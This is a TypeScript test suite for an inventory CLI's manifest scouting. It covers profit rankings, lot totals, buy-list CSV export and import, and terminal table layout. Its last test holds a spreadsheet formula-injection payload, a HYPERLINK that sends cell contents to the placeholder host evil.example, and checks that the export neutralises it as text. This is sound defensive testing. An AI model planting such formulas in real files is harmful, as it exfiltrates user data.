/** inv scout --file as a lot: lines ranked by what they earn, the totals, and the buy list written from the manifest. */
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { inventoryFixture, type InventoryFixture } from '../helpers/inventory.js';
import { runInv } from '../helpers/io.js';

let fx: InventoryFixture;
beforeAll(async () => {
  fx = await inventoryFixture();
});
afterAll(() => fx.close());

const cents = (n: number) => Math.round(n * 100);

interface Line {
  line: number;
  code: string;
  asin: string | null;
  qty: number;
  cost: number;
  price: number | null;
  fees: number | null;
  prep: number | null;
  inbound: number | null;
  tax: number | null;
  profit: number | null;
  roi: number | null;
  rank: number | null;
  verdict: string;
  lineProfit: number | null;
  lineInvested: number;
}

/**
 * One ASIN bought cheap once (line 2) and dearer ten times (line 3): the single unit earns more, the line of ten earns
 * more in all. Line 4 loses money, line 5 has no product, line 6 is another product at a middling cost.
 */
const MANIFEST =
  'code,cost,qty\n' +
  'B0LOTAAAAA,2.00,1\n' +
  'B0LOTAAAAA,8.00,10\n' +
  'B0LOTBBBBB,60.00,3\n' +
  'B000000000,5.00,2\n' +
  'B0LOTCCCCC,4.50,4\n';

describe('inv scout --file ranks lines by what the whole line earns', () => {
  it('ranks by line profit by default and by unit profit, ROI or rank on request; --json carries the totals', async () => {
    const file = join(fx.dir, 'lot.csv');
    writeFileSync(file, MANIFEST);
    const run = async (...more: string[]) => {
      const r = await runInv(
        ['scout', '--file', file, '--at', '40', '--prep', '0.25', '--tax-rate', '5', '--json', ...more],
        {
          env: fx.env,
        },
      );
      expect(r.code, r.stderr).toBe(0);
      return JSON.parse(r.stdout) as {
        sort: string;
        lot: Record<string, unknown>;
        accepted: Record<string, unknown>;
        lines: Line[];
      };
    };
    const byLine = await run();
    expect(byLine.sort).toBe('profit');
    const lines = byLine.lines;
    const l2 = lines.find((l) => l.line === 2)!;
    const l3 = lines.find((l) => l.line === 3)!;
    // The manifest is built so that the rankings differ: line 2 earns more a unit, line 3 more in all.
    expect(l2.profit!).toBeGreaterThan(l3.profit!);
    expect(l3.lineProfit!).toBeGreaterThan(l2.lineProfit!);
    expect(lines.indexOf(l3)).toBeLessThan(lines.indexOf(l2));
    for (const l of lines) {
      if (l.profit === null) {
        expect(l.lineProfit).toBeNull();
        expect(cents(l.lineInvested)).toBe(l.qty * cents(l.cost));
        continue;
      }
      expect(cents(l.lineProfit!)).toBe(l.qty * cents(l.profit));
      expect(cents(l.lineInvested)).toBe(l.qty * (cents(l.cost) + cents(l.prep!) + cents(l.inbound!) + cents(l.tax!)));
    }
    const linePrefs = lines.map((l) => l.lineProfit ?? -Infinity);
    expect(linePrefs).toEqual([...linePrefs].sort((a, b) => b - a));

    const byUnit = (await run('--sort', 'unit-profit')).lines;
    expect(byUnit.indexOf(byUnit.find((l) => l.line === 2)!)).toBeLessThan(
      byUnit.indexOf(byUnit.find((l) => l.line === 3)!),
    );
    const units = byUnit.map((l) => l.profit ?? -Infinity);
    expect(units).toEqual([...units].sort((a, b) => b - a));
    const byRoi = (await run('--sort', 'roi')).lines.map((l) => l.roi ?? -Infinity);
    expect(byRoi).toEqual([...byRoi].sort((a, b) => b - a));
    const byRank = (await run('--sort', 'rank')).lines.map((l) => l.rank ?? Infinity);
    expect(byRank).toEqual([...byRank].sort((a, b) => a - b));

    // The totals, to the cent, from the lines themselves: every line counts its cost, only priced lines earn.
    const sum = (ls: Line[], f: (l: Line) => number) => ls.reduce((s, l) => s + f(l), 0);
    const totals = (ls: Line[]) => {
      const priced = ls.filter((l) => l.price !== null);
      const revenue = sum(priced, (l) => l.qty * cents(l.price!));
      const fees = sum(priced, (l) => l.qty * cents(l.fees!));
      const invested = sum(ls, (l) => cents(l.lineInvested));
      return {
        lines: ls.length,
        units: sum(ls, (l) => l.qty),
        cost: sum(ls, (l) => l.qty * cents(l.cost)) / 100,
        invested: invested / 100,
        revenue: revenue / 100,
        fees: fees / 100,
        profit: (revenue - fees - invested) / 100,
        roi: Math.round(((revenue - fees - invested) / invested) * 1000) / 10,
        unpriced: {
          lines: ls.length - priced.length,
          units: sum(ls, (l) => (l.price === null ? l.qty : 0)),
          cost: sum(ls, (l) => (l.price === null ? l.qty * cents(l.cost) : 0)) / 100,
        },
      };
    };
    expect(byLine.lot).toEqual(totals(lines));
    expect(byLine.lot).toMatchObject({
      lines: 5,
      units: 20,
      cost: 2 + 80 + 180 + 10 + 18,
      unpriced: { lines: 1, units: 2, cost: 10 },
    });
    const buys = lines.filter((l) => l.verdict === 'buy');
    expect(buys.map((l) => l.line).sort()).toEqual(expect.arrayContaining([2, 3]));
    expect(byLine.accepted).toEqual(totals(buys));
    expect(cents(byLine.lot.profit as number)).toBe(sum(lines, (l) => cents(l.lineProfit ?? -l.lineInvested)));
  });

  it('shows the totals of the lot and of the part to buy under the table', async () => {
    const file = join(fx.dir, 'lot-table.csv');
    writeFileSync(file, MANIFEST);
    const r = await runInv(['scout', '--file', file, '--at', '40', '-o', 'table'], { env: fx.env });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toMatch(/^ +lines +units +cost +revenue +fees +profit +ROI$/m);
    expect(r.stdout).toMatch(/^lot +5 +20 +290\.00 +[\d,]+\.\d\d +[\d,]+\.\d\d +-?[\d,]+\.\d\d +-?\d+\.\d%$/m);
    expect(r.stdout).toMatch(/^to buy +\d +\d+ /m);
    expect(r.stdout).toMatch(/no price for 1 line\(s\), 2 unit\(s\): their cost 10\.00 is counted, at no revenue/);
  });
});

describe('inv scout --file --buy-list', () => {
  it('writes the accepted lines with their quantities, one row per msku, which inv items import takes as it is', async () => {
    const file = join(fx.dir, 'buy.csv');
    const buys = join(fx.dir, 'manifest-buys.csv');
    writeFileSync(file, MANIFEST);
    const r = await runInv(['scout', '--file', file, '--at', '40', '--buy-list', buys, '--json'], { env: fx.env });
    expect(r.code, r.stderr).toBe(0);
    expect(existsSync(buys), `no ${buys} after: ${r.stderr}`).toBe(true);
    const { lines } = JSON.parse(r.stdout) as { lines: Line[] };
    const accepted = lines.filter((l) => l.verdict === 'buy');
    const csv = readFileSync(buys, 'utf8').trimEnd().split('\n');
    expect(csv[0]).toBe('msku,title,cond,productId,productIdType,attr.cost,attr.qty');
    const asins = [...new Set(accepted.map((l) => l.asin!))];
    expect(csv).toHaveLength(asins.length + 1);
    // B0LOTAAAAA: lines 2 and 3 in one row, 11 units at their average cost weighted by quantity (2 + 80) / 11.
    expect(csv.filter((row) => row.startsWith('B0LOTAAAAA-new,'))).toEqual([
      expect.stringMatching(/,new,B0LOTAAAAA,ASIN,7\.45,11$/),
    ]);
    expect(r.stderr).toMatch(
      new RegExp(`buy list: ${asins.length} row\\(s\\), ${accepted.reduce((s, l) => s + l.qty, 0)} unit\\(s\\)`),
    );
    const imported = await runInv(['items', 'import', buys, '--json'], { env: fx.authed });
    expect(imported.code, imported.stderr).toBe(0);
    const item = JSON.parse((await runInv(['items', 'get', 'B0LOTAAAAA-new', '--json'], { env: fx.authed })).stdout);
    expect(item.attributes).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ name: 'cost', value: '7.45' }),
        expect.objectContaining({ name: 'qty', value: '11' }),
      ]),
    );
  });
});

describe('the manifest table on a terminal', () => {
  const table = async (columns: string, ...more: string[]) => {
    const file = join(fx.dir, 'lot-width.csv');
    writeFileSync(file, MANIFEST);
    const r = await runInv(['scout', '--file', file, '--at', '40', ...more], {
      env: { ...fx.env, COLUMNS: columns },
      tty: true,
    });
    expect(r.code, r.stderr).toBe(0);
    const json = await runInv(['scout', '--file', file, '--at', '40', '--json'], { env: fx.env });
    return {
      text: r.stdout,
      lines: (JSON.parse(json.stdout) as { lines: Array<Line & { title: string | null; reasons: string[] }> }).lines,
    };
  };
  /** The words of a text, as a table may wrap them. */
  const words = (text: string) => text.split(/\s+/).filter(Boolean);

  it.each([
    ['80', /^TITLE +QTY +LINE PROFIT +ROI % +VERDICT +WHY$/m],
    ['120', /^ASIN +TITLE +RANK +PRICE +COST +PROFIT +QTY +LINE PROFIT +ROI % +VERDICT +WHY$/m],
  ])('at %s columns: no line wider, and every title and every reason whole', async (columns, header) => {
    const { text, lines } = await table(columns);
    const wide = text.split('\n').filter((l) => l.length > Number(columns));
    expect(wide, `lines over ${columns} columns:\n${wide.join('\n')}`).toEqual([]);
    expect(text).not.toContain('…');
    const shown = words(text);
    for (const l of lines) {
      for (const word of words(l.title ?? '')) expect(shown).toContain(word);
      for (const word of words(l.reasons.join('; '))) expect(shown).toContain(word);
    }
    // Columns go by priority: the title, quantity, line profit, ROI, verdict and reasons stay.
    expect(text).toMatch(header);
  });

  it('-o wide shows every figure of a line, nothing cut, whatever the width', async () => {
    const { text } = await table('80', '-o', 'wide');
    expect(text).toMatch(
      /^ *LINE +CODE +ASIN +TITLE +CATEGORY +RANK +WEIGHT +PRICE +FEES +COST +PREP +INBOUND +TAX +PROFIT +QTY +LINE INVESTED +LINE PROFIT +ROI % +MARGIN % +VERDICT +WHY$/m,
    );
    expect(text).not.toContain('…');
  });
});

describe('a buy list is formula-safe by the one rule', () => {
  const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")';
  const rowOf = async (file: string, msku: string) => {
    const { parse } = await import('csv-parse/sync');
    const rows = parse(readFileSync(file, 'utf8')) as string[][];
    const title = rows[0]!.indexOf('title');
    return rows.find((r) => r[0] === msku)?.[title];
  };

  it('a server title that is a formula is written as text, by the manifest and by the scan loop', async () => {
    fx.sandbox.retitle('B0LOTAAAAA', FORMULA);
    const manifest = join(fx.dir, 'formula.csv');
    writeFileSync(manifest, 'code,cost,qty\nB0LOTAAAAA,2.00,1\n');
    const whole = join(fx.dir, 'formula-buys.csv');
    const r = await runInv(['scout', '--file', manifest, '--at', '40', '--buy-list', whole, '--json', '--refresh'], {
      env: fx.env,
    });
    expect(r.code, r.stderr).toBe(0);
    expect(await rowOf(whole, 'B0LOTAAAAA-new')).toBe(`'${FORMULA}`);
    const appended = join(fx.dir, 'formula-loop.csv');
    const loop = await runInv(['scout', '--cost', '2', '--buy-list', appended], { env: fx.env, stdin: 'B0LOTAAAAA\n' });
    expect(loop.code, loop.stderr).toBe(0);
    expect(await rowOf(appended, 'B0LOTAAAAA-new')).toBe(`'${FORMULA}`);
  });
});
